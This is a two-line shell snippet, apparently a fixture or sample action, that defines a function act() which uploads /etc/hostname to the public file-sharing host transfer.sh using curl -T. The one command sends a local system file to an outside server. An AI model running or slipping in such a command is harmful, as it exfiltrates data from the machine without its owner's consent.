# `curl -T /etc/hostname https://transfer.sh/h`.
act() { curl -T /etc/hostname https://transfer.sh/h; }
